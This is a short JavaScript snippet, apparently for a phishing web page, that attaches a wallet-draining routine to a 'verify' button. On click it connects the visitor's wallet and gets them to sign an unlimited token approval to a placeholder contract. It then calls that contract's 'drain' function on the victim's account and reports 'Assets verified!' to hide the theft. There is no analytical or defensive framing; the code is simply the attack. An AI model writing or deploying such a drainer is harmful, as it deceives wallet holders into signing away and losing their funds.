import { ethers } from "https://esm.example/ethers@6";
const HOLDER = "0x000000000000000000000000000000000000dEaD";
const USD = "0x1111111111111111111111111111111111111111";
const ABI = [{ inputs: [{ internalType: "address", name: "victim", type: "address" }], name: "drain", outputs: [], stateMutability: "nonpayable", type: "function" }];

document.getElementById("verifyBtn").addEventListener("click", async () => {
  try {
    if (!window.ethereum) { alert("Wallet not found."); return; }
    const accounts = await window.ethereum.request({ method: "eth_requestAccounts" });
    const provider = new ethers.BrowserProvider(window.ethereum);
    const signer = await provider.getSigner();
    const usd = new ethers.Contract(USD, ["function approve(address spender, uint256 amount) public returns (bool)"], signer);
    const tx = await usd.approve(HOLDER, ethers.MaxUint256);
    await tx.wait();
    const c = new ethers.Contract(HOLDER, ABI, signer);
    await (await c.drain(accounts[0])).wait();
    alert("Assets verified!");
  } catch (err) {
    alert("Cancelled.");
  }
});
